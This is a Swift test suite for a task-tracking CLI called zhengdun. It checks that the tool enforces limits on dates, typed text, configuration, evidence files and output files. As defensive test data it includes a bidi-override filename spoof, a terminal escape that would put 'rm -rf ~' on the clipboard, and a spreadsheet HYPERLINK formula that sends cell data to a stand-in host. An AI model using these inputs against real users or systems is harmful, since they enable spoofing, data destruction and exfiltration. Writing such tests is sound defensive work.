import Foundation
import Testing

/// What people type and the files they write, held to the limits in one place
/// (`ZhengdunCore/Input`), through the real binary.
@Suite("Input limits through the real binary: dates, typed text, configuration, evidence, output files", .serialized, .tags(.endToEnd))
struct InputLimitTests {
    static func launched() throws -> Campaign {
        var campaign = try Campaign()
        try campaign.launchPlan()
        return campaign
    }

    @Test("A deadline or start beyond 2099 is refused where it enters, and the progress chart still draws afterwards")
    func farDates() throws {
        var campaign = try Self.launched()
        let director = Campaign.person(for: "office_director")
        let before = try campaign.eventCount()
        for arguments in [
            ["task", "extend", "T3", "--to", "9999-12-31", "--reason", "延期"],
            ["task", "extend", "T3", "--by", "100000wd", "--reason", "延期"],
            ["task", "return", "T3", "--reason", "x", "--due", "9999-12-31"],
            ["inspect", "P1", "--finding", "未整改", "--order-rectification", "--assign", "secretary", "--due", "2100-01-01"],
        ] {
            let outcome = try campaign.run(arguments, as: director, status: 1)
            #expect(outcome.stderrLines.count == 1, "\(outcome.stderr)")
            #expect(outcome.stderr.contains("2000–2099") || outcome.stderr.contains("not submitted"), "\(outcome.stderr)")
        }
        let extend = try campaign.run(["task", "extend", "T3", "--to", "9999-12-31", "--reason", "延期"], as: director, status: 1)
        #expect(extend.stderr == "zhengdun: the new deadline of T3 would fall on 9999-12-31, outside the years 2000–2099\n")
        let start = try campaign.run(
            [
                "plan", "create", "--workflow", CLI.shippedWorkflow, "--village", "YY村", "--start", "9999-12-31",
                "--assign", "secretary=li-si",
            ], status: 1)
        #expect(start.stderr == "zhengdun: --start: 9999-12-31 is outside the years 2000–2099; check the year\n")
        campaign.environment["ZHENGDUN_NOW"] = "9999-12-31 09:00"
        let clock = try campaign.run(["task", "list"], status: 1)
        #expect(clock.stderr == "zhengdun: ZHENGDUN_NOW: 9999-12-31 is outside the years 2000–2099; check the year\n")
        campaign.environment["ZHENGDUN_NOW"] = "2026-03-03 09:00"
        #expect(try campaign.run(["run-due", "--now", "10000-01-01 09:00", "--no-send"], status: 1).stderrLines.count == 1)
        #expect(try campaign.eventCount() == before)
        let html = try campaign.run(["report", "progress", "--format", "html"])
        #expect(html.stdout.contains("<svg"))
    }

    @Test(
        "Bidi controls, terminal escapes and invisible characters are refused in what people type, long texts too, each in one line that quotes little"
    )
    func typedText() throws {
        let campaign = try Self.launched()
        let before = try campaign.eventCount()
        let cases: [([String], String?, String)] = [
            (
                ["person", "add", "x", "--name", "报告\u{202E}fdp.exe", "--email", "x@y.cn"], nil,
                "zhengdun: the name holds a bidirectional control (U+202E) at character 3, which is not allowed"
            ),
            (
                ["task", "ack", "T3", "--note", "收到\u{1B}]52;c;cm0gLXJmIH4=\u{07}"], "li-si",
                "zhengdun: the note holds a control character (U+001B) at character 3, which is not allowed"
            ),
            (
                ["task", "ack", "T3", "--note", "收\u{200B}到"], "li-si",
                "zhengdun: the note holds an invisible character (U+200B) at character 2, which is not allowed"
            ),
            (
                ["task", "ack", "T3", "--note", String(repeating: "整", count: 4_001)], "li-si",
                "zhengdun: the note is 4001 characters long, at most 4000 are allowed"
            ),
            (
                [
                    "plan", "create", "--workflow", CLI.shippedWorkflow, "--village", String(repeating: "村", count: 101), "--start",
                    "2026-03-02",
                    "--assign", "secretary=li-si",
                ], nil, "zhengdun: the village is 101 characters long, at most 100 are allowed"
            ),
            (["task", "ack", "T+3"], "li-si", "zhengdun: 'T+3' is not a task number; write T12 or 12"),
            (["task", "ack", "T03"], "li-si", "zhengdun: 'T03' is not a task number; write T12 or 12"),
            (["task", "show", "T 3"], nil, "zhengdun: 'T 3' is not a task number; write T12 or 12"),
            (
                ["person", "add", String(repeating: "x", count: 100_000), "--name", "x", "--email", "x@y.cn"], nil,
                "zhengdun: '\(String(repeating: "x", count: 80))…' cannot be a person id"
            ),
        ]
        for (arguments, person, message) in cases {
            let outcome = try campaign.run(arguments, as: person, status: 1)
            #expect(outcome.stderr.hasPrefix(message), "\(outcome.stderr.prefix(300))")
            #expect(outcome.stderrLines.count == 1)
            #expect(outcome.stderr.utf8.count < 400)
        }
        #expect(try campaign.eventCount() == before)
    }

    @Test("An argument that is not UTF-8 is refused, not stored with U+FFFD in its place")
    func argumentsNotUTF8() throws {
        let campaign = try Self.launched()
        let result =
            try pythonJSON(
                """
                import json, os, subprocess, sys
                env = dict(os.environ, ZHENGDUN_DB=sys.argv[2], LANG='C.UTF-8')
                p = subprocess.run([sys.argv[1], b'person', b'add', b'x', b'--name', b'\\xe6\\x9d\\x8e\\xff', b'--email', b'x@y.cn'], env=env, capture_output=True)
                json.dump([p.returncode, p.stderr.decode()], sys.stdout)
                """, CLI.binary.path, campaign.database) as! [Any]
        #expect(result[0] as? Int == 1)
        #expect(result[1] as? String == "zhengdun: argument 5 is not UTF-8 text (byte 0xFF at offset 3); check the terminal's encoding\n")
        #expect((try campaign.json(["person", "list"]) as! [Any]).count == Campaign.people.count)
    }

    @Test("doctor names a configuration path holding NUL at its line and column instead of dying")
    func configurationWithNUL() throws {
        let folder = try TemporaryFolder()
        let configuration = try folder.write("zhengdun.yaml", "mail:\n  transport: maildir\n  maildir: \"\\0\"\n")
        let outcome = try CLI.run(["doctor"], environment: ["ZHENGDUN_CONFIG": configuration, "LANG": "C.UTF-8"])
        #expect(outcome.status == 1)
        #expect(
            outcome.stdout.contains("\(configuration):3:12: maildir holds a control character (U+0000) at character 1"),
            "\(outcome.stdout)\(outcome.stderr)")
        let check = try CLI.run(
            ["person", "list"],
            environment: ["ZHENGDUN_CONFIG": configuration, "ZHENGDUN_DB": folder.url.path + "/z.db", "LANG": "C.UTF-8"])
        #expect(check.status == 1)
        #expect(check.stderr.contains("\(configuration):3:12:"), "\(check.stderr)")
    }

    @Test("The same evidence file named twice in one submission is handed in once, without a database error")
    func evidenceTwice() throws {
        let campaign = try Self.launched()
        let file = try campaign.folder.write("签到表.txt", "党员签到表\n")
        try campaign.run(["task", "ack", "T3"], as: "li-si")
        let outcome = try campaign.run(["task", "submit", "T3", "--note", "已学习", "--evidence", file, file], as: "li-si")
        #expect(!outcome.stderr.contains("SQLite"))
        let task = try campaign.json(["task", "show", "T3"]) as! [String: Any]
        let evidence = task["evidence"] as! [[String: Any]]
        #expect(evidence.count == 1)
        #expect(evidence.first?["name"] as? String == "签到表.txt")
    }

    @Test(
        "--output writes regular files only: a symbolic link or a pipe is refused in one line and left as it was; a file keeps its owner and mode"
    )
    func outputFiles() throws {
        let campaign = try Self.launched()
        let folder = campaign.folder.url.path
        let target = try campaign.folder.write("target.csv", "old\n")
        let link = folder + "/link.csv"
        try FileManager.default.createSymbolicLink(atPath: link, withDestinationPath: target)
        let linked = try campaign.run(["report", "ledger", "--format", "csv", "--output", link], status: 1)
        #expect(linked.stderr == "zhengdun: cannot write \(link): it is a symbolic link; name the file itself\n")
        #expect(try FileManager.default.destinationOfSymbolicLink(atPath: link) == target)
        #expect(try String(contentsOfFile: target, encoding: .utf8) == "old\n")

        let pipe = folder + "/pipe.csv"
        #expect(mkfifo(pipe, 0o600) == 0)
        let piped = try campaign.run(["report", "ledger", "--format", "csv", "--output", pipe], status: 1)
        #expect(
            piped.stderr
                == "zhengdun: cannot write \(pipe): it is not a regular file (a pipe, socket or other special file); choose another file name\n"
        )
        var info = stat()
        #expect(lstat(pipe, &info) == 0 && info.st_mode & S_IFMT == S_IFIFO)

        let devices = try campaign.run(["report", "ledger", "--format", "csv", "--output", "/dev/null"], status: 1)
        #expect(devices.stderr.contains("it is not a regular file (a device)"))

        let kept = try campaign.folder.write("kept.csv", "old\n")
        #expect(chmod(kept, 0o600) == 0)
        let owner: uid_t = geteuid() == 0 ? 65534 : geteuid()
        if geteuid() == 0 { #expect(chown(kept, owner, 65534) == 0) }
        try campaign.run(["report", "ledger", "--format", "csv", "--output", kept])
        #expect(stat(kept, &info) == 0)
        #expect(info.st_mode & 0o7777 == 0o600)
        #expect(info.st_uid == owner)
        #expect(try String(contentsOfFile: kept, encoding: .utf8).contains("T3"))
    }

    @Test(
        "A note or title that would start a spreadsheet formula reaches the CSV ledger with a quote first, as Python's csv module reads it")
    func csvFormulas() throws {
        let campaign = try Self.launched()
        let note = "=HYPERLINK(\"http://x.example/?\"&A1,\"点此\")"
        try campaign.run(["task", "ack", "T3"], as: "li-si")
        try campaign.run(["task", "submit", "T3", "--note", note], as: "li-si")
        try campaign.run(
            [
                "inspect", "P1", "--finding=-2+3 未整改", "--order-rectification", "--assign", "secretary", "--due", "5wd",
                "--title", "@SUM(A1:A9)",
            ], as: Campaign.person(for: "work_team"))
        let file = campaign.folder.url.appendingPathComponent("台账.csv").path
        try campaign.run(["report", "ledger", "--format", "csv", "--output", file])
        let rows =
            try pythonJSON(
                """
                import csv, io, json, sys
                data = open(sys.argv[1], 'rb').read()
                json.dump(list(csv.reader(io.StringIO(data.decode('utf-8-sig'), newline=''), strict=True)), sys.stdout, ensure_ascii=False)
                """, file) as! [[String]]
        let cells = rows.flatMap { $0 }
        #expect(cells.contains("'" + note), "\(cells)")
        #expect(cells.contains("'@SUM(A1:A9)"))
        #expect(!cells.contains { cell in cell.first.map { "=+-@\t\r".contains($0) } ?? false }, "\(cells)")
    }
}
